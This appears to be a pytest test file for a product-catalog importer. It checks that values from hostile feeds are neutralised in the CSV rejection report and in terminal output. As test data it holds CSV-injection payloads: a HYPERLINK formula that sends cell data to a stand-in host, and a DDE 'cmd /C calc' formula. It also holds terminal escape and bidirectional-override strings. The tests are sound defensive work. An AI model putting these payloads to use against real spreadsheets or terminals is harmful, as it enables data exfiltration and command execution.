"""The import report echoes hostile feed text inertly: on the terminal and in the CSV report (no services).

A rejected row's key and message come from the feed. On the terminal a control character (an
escape sequence, a line break, a bidirectional override) would act instead of showing; in a
spreadsheet a cell starting with ``= + - @`` (or a tab or CR) is a formula (OWASP, "CSV Injection").
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

from catalog.feeds import KINDS
from catalog.importer import Report, import_file

CONTEXT = {"locales": ("en_US", "de_DE"), "currencies": ("EUR", "USD")}


def run(tmp_path: Path, kind: str, text: str) -> tuple[str, list[list[str]]]:
    """Import one feed through a sink that accepts everything; return (terminal text, report rows)."""
    feed = tmp_path / f"{kind}.csv"
    feed.write_text(text, encoding="utf-8", newline="")
    out = io.StringIO()
    report = Report(tmp_path / "report.csv", out=out)
    import_file(feed, KINDS[kind], lambda rows: [], report, context=CONTEXT)
    report.close()
    with (tmp_path / "report.csv").open(newline="", encoding="utf-8") as handle:
        return out.getvalue(), list(csv.reader(handle))[1:]


def test_formula_cells_are_neutralized_in_the_csv_report(tmp_path):
    _, rows = run(
        tmp_path,
        "stock",
        'sku,quantity\n=HYPERLINK("http://evil.example/?"&A1),1\n+1+1,2\n-2+3,3\n@SUM(A1:A9),4\n"\t=1+1",5\n',
    )  # the tab is CSV padding, trimmed: "=1+1" is left
    keys = [row[2] for row in rows]
    assert keys == ['\'=HYPERLINK("http://evil.example/?"&A1)', "'+1+1", "'-2+3", "'@SUM(A1:A9)", "'=1+1"]


def test_every_report_cell_is_neutralized_tab_and_carriage_return_too(tmp_path):
    report = Report(tmp_path / "report.csv", out=io.StringIO())
    for key in ("\tx", "\r=1", "-1", "=1", "+1", "@x", "plain"):
        report.reject("=cmd|' /C calc'!A0", 2, key, "@message")
    report.close()
    with (tmp_path / "report.csv").open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))[1:]
    assert [row[2] for row in rows] == ["'\\tx", "'\\r=1", "'-1", "'=1", "'+1", "'@x", "plain"]
    assert {(row[0], row[3]) for row in rows} == {("'=cmd|' /C calc'!A0", "'@message")}
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)


def test_control_characters_never_reach_the_terminal_or_the_report(tmp_path):
    hostile = "\x1b[2J\x1b]0;owned\x07B\u202eLIAME\x9b31m"
    terminal, rows = run(tmp_path, "stock", f'sku,quantity\n"{hostile}",1\n"two\nlines",2\n')
    lines = terminal.splitlines()
    assert len(lines) == 2, lines  # a line break inside a key does not start a new report line
    for text in (terminal.replace("\n", ""), *(cell for row in rows for cell in row)):
        assert not any(ord(c) < 0x20 or 0x7F <= ord(c) <= 0x9F or c == "\u202e" for c in text), repr(text)
    # escaped, not dropped: the report shows what the feed held
    assert "\\x1b[2J\\x1b]0;owned\\x07B\\u202eLIAME\\x9b31m: sku:" in lines[0]
    assert rows[1][2] == "two\\nlines"


def test_a_key_ending_in_a_newline_is_rejected_and_reported(tmp_path):
    terminal, rows = run(tmp_path, "prices", 'sku,currency,amount\n"ABC\n",EUR,1.00\nABC,"EUR\n",1.00\nABC,EUR,1.00\n')
    assert [(row[1], row[2]) for row in rows] == [("2", "ABC\\n/EUR"), ("4", "ABC/EUR\\n")]
    assert "sku: SKU 'ABC\\n' must match" in rows[0][3]
    assert "currency: currency 'EUR\\n' must match" in rows[1][3]
    assert len(terminal.splitlines()) == 2


def test_category_keys_ending_in_a_newline_are_rejected(tmp_path):
    _, rows = run(
        tmp_path, "products", 'sku,categories,name.en_US\nP1,"bags\n",Bag\nP2,"gear|bags\n",Bag\nP3, gear | bags ,Bag\n'
    )  # blanks around keys are CSV padding
    assert [row[2] for row in rows] == ["P1", "P2"]
    assert all("category key 'bags\\n' must match" in row[3] for row in rows)


def test_a_huge_hostile_cell_is_echoed_cut(tmp_path):
    terminal, rows = run(tmp_path, "stock", "sku,quantity\n" + "=" * 100_000 + ",1\n")
    assert len(terminal) < 5_000 and rows[0][2].startswith("'===")
    assert all(len(cell) < 2_000 for cell in rows[0])
